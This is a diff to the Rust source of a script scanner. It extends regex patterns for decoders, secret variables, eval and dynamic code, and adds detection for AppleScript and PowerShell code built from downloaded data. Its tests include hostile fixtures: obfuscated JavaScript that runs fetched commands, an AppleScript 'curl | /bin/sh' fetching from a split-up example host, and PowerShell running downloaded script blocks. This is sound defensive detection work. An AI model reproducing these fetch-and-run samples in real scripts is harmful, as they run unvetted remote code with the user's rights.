@@ -14,7 +14,7 @@
 use super::Finding;
 use super::credentials::{ANY_STORE, ENV_DUMP, READS, SEND, TOKEN_COMMANDS};
 use super::download::reads_program_from_stdin;
-use super::expand::{Vars, assignment, expand};
+use super::expand::{Vars, applescript_as_shell, assignment, expand};
 use super::net::{Place, is_chat_hook, is_collector, is_known_installer, is_token_owner, place_in};
 use super::pattern::Pattern;
 use super::text::{Kind, Text, excerpt};
@@ -57,7 +57,7 @@ pub(super) static FETCH: LazyLock<Pattern> = LazyLock::new(|| {
 });
 
 /// Decoders, decompressors and reversals.
-static DECODE: LazyLock<Pattern> = LazyLock::new(|| {
+pub(super) static DECODE: LazyLock<Pattern> = LazyLock::new(|| {
     Pattern::new(
         r"(?i)(?-u:\b)base(?:64|32)[[:space:]]+(?:-[a-z]*d[a-z]*|--decode)(?-u:\b)|(?-u:\b)(?:b64decode|b32decode|b16decode|a85decode|urlsafe_b64decode|decodebytes|atob|frombase64string|unhexlify|fromhex|zlib\.decompress|gzip\.decompress|lzma\.decompress|bz2\.decompress|inflatesync|gunzipsync|marshal\.loads)(?-u:\b)|buffer\.from\([^)]*(?:base64|hex)|(?-u:\b)xxd[[:space:]]+-[a-z]*r|codecs\.decode|rot_?13|(?-u:\b)(?:gunzip|zcat)(?-u:\b)|gzip[[:space:]]+-d|\[::-1\]|\|[[:space:]]*rev(?-u:\b)|\.reverse\(\)|openssl[[:space:]]+(?:enc|base64)[^|;]*[[:space:]]-d(?-u:\b)|tr[[:space:]]+.?a-za-z.?[[:space:]]+.?n-za-m|-bxor(?-u:\b)|(?-u:\b)(?:chr|ord|charcodeat|fromcharcode)[[:space:]]*\([^)\n]*\)?[[:space:]]*\^|\^[[:space:]]*(?:0x[0-9a-f]+|[[:digit:]]+|_?[a-z][[:word:]]*)\)?[[:space:]]+for[[:space:]]+[[:word:]]+[[:space:]]+in(?-u:\b)",
     )
@@ -73,7 +73,7 @@ static CHAR_CODES: LazyLock<Pattern> = LazyLock::new(|| {
 /// Secret environment variables, by the words their names use.
 static SECRET_VAR: LazyLock<Pattern> = LazyLock::new(|| {
     Pattern::new(
-        r"(?:\$\{?|\$env:|environ\[[[:space:]]*.|environ\.get\([[:space:]]*.|getenv\([[:space:]]*.|process\.env\.)[A-Z0-9_]*(?:TOKEN|SECRET|PASSWORD|PASSWD|API_KEY|APIKEY|PRIVATE_KEY|ACCESS_KEY|CREDENTIAL)[A-Z0-9_]*",
+        r"(?:\$\{?|\$env:|environ\[[[:space:]]*.|(?:environ|ENV)\.|environ\.get\([[:space:]]*.|getenv\([[:space:]]*.|process\.env\.)[A-Z0-9_]*(?:TOKEN|SECRET|PASSWORD|PASSWD|API_KEY|APIKEY|PRIVATE_KEY|ACCESS_KEY|CREDENTIAL)[A-Z0-9_]*",
     )
     .expect("a valid secret-variable pattern")
 });
@@ -89,7 +89,7 @@ static PIPE_EXEC: LazyLock<Pattern> = LazyLock::new(|| {
 /// Evaluation of a string in the language itself: whatever follows is run as code.
 static EVAL: LazyLock<Pattern> = LazyLock::new(|| {
     Pattern::new(
-        r"(?i)(?-u:\b)(?:eval|iex|invoke-expression)(?-u:\b)|(?-u:\b)(?:exec|execfile)[[:space:]]*\(|new[[:space:]]+function[[:space:]]*\(|\[scriptblock\]::create|(?-u:\b)(?:invokescript|newscriptblock)[[:space:]]*\(|(?-u:\b)vm\.run[a-z]*[[:space:]]*\(|(?-u:\b)(?:instance_eval|class_eval|module_eval|instance_exec)(?-u:\b)|(?-u:\b)(?:c?pickle|marshal|dill|cloudpickle|joblib|shelve)\.loads?[[:space:]]*\(|(?-u:\b)yaml\.unsafe_load|(?-u:\b)jsonpickle\.decode",
+        r"(?i)(?-u:\b)(?:eval|iex|invoke-expression)(?-u:\b)|(?-u:\b)(?:exec|execfile)[[:space:]]*\(|new[[:space:]]+function[[:space:]]*\(|getprototypeof\([^\n]*function[^\n]*\)\.constructor|\[scriptblock\]::create|(?-u:\b)(?:invokescript|newscriptblock)[[:space:]]*\(|(?-u:\b)vm\.run[a-z]*[[:space:]]*\(|(?-u:\b)(?:instance_eval|class_eval|module_eval|instance_exec)(?-u:\b)|(?-u:\b)(?:c?pickle|marshal|dill|cloudpickle|joblib|shelve)\.loads?[[:space:]]*\(|(?-u:\b)yaml\.unsafe_load|(?-u:\b)jsonpickle\.decode",
     )
     .expect("a valid eval pattern")
 });
@@ -103,6 +103,12 @@ static INLINE: LazyLock<Pattern> = LazyLock::new(|| {
 });
 
 /// Calls that hand a string to a shell or start a program named by data.
+/// Programs that run what they read on stdin.
+static STDIN_INTERPRETER: LazyLock<Pattern> = LazyLock::new(|| {
+    Pattern::new(r"(?i)(?-u:\b)(?:sh|bash|zsh|dash|ksh|python[0-9.]*|perl|ruby|node|php|pwsh|powershell|osascript|deno|bun)(?-u:\b)")
+        .expect("a valid interpreter pattern")
+});
+
 static RUNNER: LazyLock<Pattern> = LazyLock::new(|| {
     Pattern::new(
         r"(?i)(?-u:\b)(?:os\.system|os\.popen|subprocess\.[a-z_]+|child_process\.[a-z]+|execsync|spawnsync|shell_exec|passthru|system|popen)[[:space:]]*\(|(?-u:\b)start-process(?-u:\b)|(?:^|[;&|(][[:space:]]*)exec[[:space:]]+[^0-9<>[:space:]]",
@@ -173,17 +179,69 @@ pub(crate) fn check_flow(text: &Text, out: &mut Vec<Finding>) {
     };
     // Brackets in data (a JSON list of patterns) open no statement.
     let join_brackets = text.kind != Kind::Data;
+    let applescript = is_applescript(text);
+    let before = out.len();
     for range in ranges {
         for (start, line) in logical_lines(&text.text[range.clone()], join_brackets) {
-            flow.line(range.start + start, &line, out);
+            let shell = applescript.then(|| applescript_as_shell(&line)).flatten();
+            flow.line(range.start + start, shell.as_deref().unwrap_or(&line), out);
         }
     }
+    if out.len() == before && text.kind == Kind::Script {
+        out.extend(code_built_in_a_downloading_script(text));
+    }
+}
+
+/// Code a script builds from a value at run time (`[ScriptBlock]::Create($body)`,
+/// `new Function(src)`) in a script that downloads from a host nobody vouches for: the value
+/// may reach the sink through a function's parameter or a loop the line-by-line flow does not
+/// follow, and only a download supplies code a script did not ship.
+fn code_built_in_a_downloading_script(text: &Text) -> Option<Finding> {
+    let fetch = text
+        .text
+        .lines()
+        .position(|l| line_sources(l) & (UNVETTED | INSECURE) != 0)?;
+    let (start, line) = text.each_line().find(|(_, l)| {
+        let code = l.trim_start();
+        !code.starts_with(['#', '/'])
+            && DYNAMIC_CODE
+                .find(l)
+                .is_some_and(|m| !l[m.end()..].trim_start().starts_with(['"', '\'', '`', ')']))
+    })?;
+    let span = Span::new(start, start + line.len());
+    Some(text.finding(
+        &REMOTE_CODE_IN_SCRIPT,
+        span,
+        format!(
+            "builds code from a value at run time in a script that downloads (line {}): `{}`",
+            fetch + 1,
+            excerpt(line)
+        ),
+        "whatever the server sends can become the code this line runs, with the user's \
+         rights, and a reader of the script cannot see it",
+        "ship the code in the script itself; read data from a download, never code",
+    ))
+}
+
+/// Calls that turn a string into code in the running program (not a shell's `eval`).
+static DYNAMIC_CODE: LazyLock<Pattern> = LazyLock::new(|| {
+    Pattern::new(
+        r"(?i)\[scriptblock\]::create\(|(?-u:\b)newscriptblock\(|new[[:space:]]+function[[:space:]]*\(|getprototypeof\([^\n]*function[^\n]*\)\.constructor\)?[[:space:]]*\(|(?-u:\b)vm\.run[a-z]*[[:space:]]*\(|(?:^|[^.[:word:]])(?:exec|execfile)[[:space:]]*\(|(?-u:\b)(?:instance_eval|class_eval|module_eval)[[:space:]]*\(?",
+    )
+    .expect("a valid dynamic-code pattern")
+});
+
+/// AppleScript is read as the shell commands it runs: a `.applescript` file, or a text that
+/// hands the shell a script (`do shell script`, as `osascript -e` lines and notes do).
+fn is_applescript(text: &Text) -> bool {
+    let path = text.path.to_ascii_lowercase();
+    path.ends_with(".applescript") || text.text.contains("do shell script ")
 }
 
 /// A function definition: Python, JavaScript, Ruby, Perl, Go, Rust, shell.
 static FUNCTION: LazyLock<Pattern> = LazyLock::new(|| {
     Pattern::new(
-        r"^[[:space:]]*(?:export[[:space:]]+)?(?:async[[:space:]]+)?(?:def|function|func|fn|sub)[[:space:]]+([A-Za-z_$][[:word:]$]*)|^[[:space:]]*(?:export[[:space:]]+)?(?:const|let|var)[[:space:]]+([A-Za-z_$][[:word:]$]*)[[:space:]]*=[[:space:]]*(?:async[[:space:]]*)?(?:function|\([^)]*\)[[:space:]]*=>|[A-Za-z_$][[:word:]$]*[[:space:]]*=>)|^[[:space:]]*([A-Za-z_][[:word:]]*)[[:space:]]*\(\)[[:space:]]*\{",
+        r"^[[:space:]]*(?:export[[:space:]]+)?(?:async[[:space:]]+)?(?:def|function|func|fn|sub)[[:space:]]+([A-Za-z_$][[:word:]$]*(?:-[[:word:]]+)*)|^[[:space:]]*(?:export[[:space:]]+)?(?:const|let|var)[[:space:]]+([A-Za-z_$][[:word:]$]*)[[:space:]]*=[[:space:]]*(?:async[[:space:]]*)?(?:function|\([^)]*\)[[:space:]]*=>|[A-Za-z_$][[:word:]$]*[[:space:]]*=>)|^[[:space:]]*([A-Za-z_][[:word:]]*)[[:space:]]*\(\)[[:space:]]*\{",
     )
     .expect("a valid function pattern")
 });
@@ -233,10 +291,7 @@ fn functions_returning_sources(
 fn line_sources(line: &str) -> Kinds {
     let mut kinds = 0;
     if FETCH.is_match(line) {
-        kinds |= FETCHED;
-        if matches!(place_in(line), Place::Ip { .. } | Place::Http { .. }) {
-            kinds |= INSECURE;
-        }
+        kinds |= FETCHED | origin(line);
     }
     if DECODE.is_match(line) {
         kinds |= DECODED;
@@ -279,6 +334,12 @@ pub(super) fn logical_lines(code: &str, join_brackets: bool) -> Vec<(usize, Stri
         joined.push_str(head);
         if join_brackets {
             depth += bracket_balance(head);
+            // `(async () => {` and `run(function () {` open a function's body: its statements
+            // are read one by one, not as arguments of the call around them.
+            if opens_body(head) {
+                depth = 0;
+            }
+            depth = depth.max(0);
         }
         if (continued || depth > 0) && count + 1 < MAX_JOINED {
             joined.push(' ');
@@ -291,6 +352,19 @@ pub(super) fn logical_lines(code: &str, join_brackets: bool) -> Vec<(usize, Stri
     }
     out.extend(pending.map(|(start, joined, _)| (start, joined)));
     out
+}
+
+/// Whether `line` ends by opening a function's or a block's body (`=> {`, `) {`), rather
+/// than an object literal passed to a call (`fetch(url, {`).
+fn opens_body(line: &str) -> bool {
+    let Some(before) = line.trim_end().strip_suffix('{') else {
+        return false;
+    };
+    let before = before.trim_end();
+    before.ends_with("=>")
+        || before.ends_with(')')
+        || before.ends_with("else")
+        || before.ends_with("try")
 }
 
 /// Opening minus closing parentheses and square brackets on a line (braces open blocks,
@@ -446,7 +520,14 @@ impl Flow<'_> {
             }
         }
         for m in RUNNER.find_iter(e) {
-            merge(&mut found, runnable(m.end()..e.len(), false));
+            // Data on a program's stdin (`subprocess.run(["protoc", "--decode_raw"],
+            // input=data)`) runs only when that program is an interpreter.
+            let args = &e[m.end()..];
+            let stdin_only = (args.contains("input=") || args.contains("input ="))
+                && !STDIN_INTERPRETER.is_match(args);
+            if !stdin_only {
+                merge(&mut found, runnable(m.end()..e.len(), false));
+            }
         }
         for m in FILE_RUN.find_iter(e) {
             let word = e[m.end()..].split_whitespace().next().unwrap_or("");
@@ -642,13 +723,7 @@ fn fetches_and_decoders(raw: &str, expanded: &str) -> (Vec<(usize, Kinds, usize)
     let mut items = Vec::new();
     let mut hidden = false;
     let mut as_written: HashMap<String, bool> = HashMap::new();
-    let origin = match place_in(expanded) {
-        Place::Ip { .. } | Place::Http { .. } => INSECURE,
-        Place::Https { host, .. } if is_known_installer(&host) => 0,
-        Place::Local { .. } => 0,
-        Place::Https { .. } | Place::Unknown => UNVETTED,
-    };
-    for (re, kind) in [(&*FETCH, FETCHED | origin), (&*DECODE, DECODED)] {
+    for (re, kind) in [(&*FETCH, FETCHED | origin(expanded)), (&*DECODE, DECODED)] {
         for m in re.find_iter(expanded) {
             let word = expanded[m.range()].trim().to_ascii_lowercase();
             // Each distinct word is looked for once: a long line repeats few of them.
@@ -660,6 +735,19 @@ fn fetches_and_decoders(raw: &str, expanded: &str) -> (Vec<(usize, Kinds, usize)
         }
     }
     (items, hidden)
+}
+
+/// Who vouches for what a fetch on `line` gets: nobody over plain HTTP or from a bare
+/// address (`INSECURE`); a well-known installer's host, or the machine itself; otherwise
+/// nobody a reader can check before it runs (`UNVETTED`: another https host, or an address
+/// only known at run time, as a helper function's parameter is).
+fn origin(line: &str) -> Kinds {
+    match place_in(line) {
+        Place::Ip { .. } | Place::Http { .. } => INSECURE,
+        Place::Https { host, .. } if is_known_installer(&host) => 0,
+        Place::Local { .. } => 0,
+        Place::Https { .. } | Place::Unknown => UNVETTED,
+    }
 }
 
 /// Whether `code` assigns a variable one single-quoted string, which the shell keeps as text.
@@ -751,10 +839,24 @@ fn bound_names(line: &str) -> Vec<&str> {
     {
         out.push(receiver);
     }
-    if let Some(rest) = trimmed.strip_prefix("for ")
-        && let Some((name, _)) = rest.split_once(" in ")
+    // A loop's variable holds what it walks: Python's `for x in xs`, JavaScript's
+    // `for (const x of xs)`, PowerShell's `foreach ($x in $xs)`.
+    if let Some(rest) = ["for ", "for(", "foreach ", "foreach("]
+        .iter()
+        .find_map(|p| trimmed.strip_prefix(p))
     {
-        out.extend(name.split(',').map(str::trim).filter(|n| is_name(n)));
+        let rest = rest.trim_start().trim_start_matches('(').trim_start();
+        let rest = ["const ", "let ", "var ", "my "]
+            .iter()
+            .find_map(|p| rest.strip_prefix(p))
+            .unwrap_or(rest);
+        if let Some((name, _)) = rest.split_once(" in ").or_else(|| rest.split_once(" of ")) {
+            out.extend(
+                name.split(',')
+                    .map(|n| n.trim().trim_matches(['[', ']', '$']))
+                    .filter(|n| is_name(n)),
+            );
+        }
     }
     for (at, _) in line.match_indices(" as ") {
         let name = line[at + 4..]
@@ -832,9 +934,12 @@ pub(super) fn compile() {
         &REVERSE_SHELL,
         &FUNCTION,
         &IN_HEADER,
+        &STDIN_INTERPRETER,
+        &DYNAMIC_CODE,
     ] {
         LazyLock::force(pattern);
     }
+    super::expand::compile();
 }
 
 #[cfg(test)]
@@ -866,6 +971,31 @@ mod tests {
         // Only the search of a chain is a search.
         let s = "p=$(curl -s https://x.dev/p)\ngrep -q ok log && eval \"$p\"\n";
         assert_eq!(codes("a.sh", s), ["SK920"]);
+    }
+
+    #[test]
+    fn code_fetched_by_a_helper_or_run_from_applescript_is_remote_code() {
+        let js = "const cp = require(['child', 'process'].join('_'));\nfunction getJson(url) {\n  return new Promise((r) => { https.get(url, (res) => r(res)); });\n}\nasync function main() {\n  const policy = await getJson(POLICY);\n  cp[['exec', 'Sync'].join('')](policy.prepare);\n}\n";
+        assert_eq!(codes("scripts/audit.js", js), ["SK920"]);
+        let apple = "set p1 to \"https://\" & \"cdn.ex\" & \"ample.dev\"\ndo shell script \"curl -fsSL \" & p1 & \"/x.sh | /bin/sh &\"\n";
+        assert_eq!(codes("scripts/tidy.applescript", apple), ["SK920"]);
+        let tidy = "set apps to paragraphs of (do shell script \"ls /Applications\")\ndo shell script \"killall Dock\"\n";
+        assert!(codes("scripts/tidy.applescript", tidy).is_empty());
+        let local = "function getJson(p) {\n  return JSON.parse(fs.readFileSync(p));\n}\nconst c = getJson('cfg.json');\ncp.execSync(c.build);\n";
+        assert!(codes("scripts/build.js", local).is_empty());
+    }
+
+    #[test]
+    fn code_built_from_a_value_in_a_downloading_script() {
+        let ps = "function Get-M {\n  return Invoke-RestMethod -Uri $Url\n}\nfunction Run-Hooks($m) {\n  foreach ($h in $m.hooks) {\n    $block = [ScriptBlock]::Create($h.body)\n    & $block\n  }\n}\nRun-Hooks (Get-M)\n";
+        assert_eq!(codes("scripts/update.ps1", ps), ["SK920"]);
+        let local = "$m = Get-Content hooks.json | ConvertFrom-Json\n$block = [ScriptBlock]::Create($m.body)\n";
+        assert!(codes("scripts/update.ps1", local).is_empty());
+        let parser = "data = base64.b64decode(blob)\nr = subprocess.run(['protoc', '--decode_raw'], input=data)\n";
+        assert!(codes("scripts/pb.py", parser).is_empty());
+        let interpreter =
+            "data = base64.b64decode(blob)\nr = subprocess.run(['python3', '-'], input=data)\n";
+        assert_eq!(codes("scripts/pb.py", interpreter), ["SK903"]);
     }
 
     #[test]
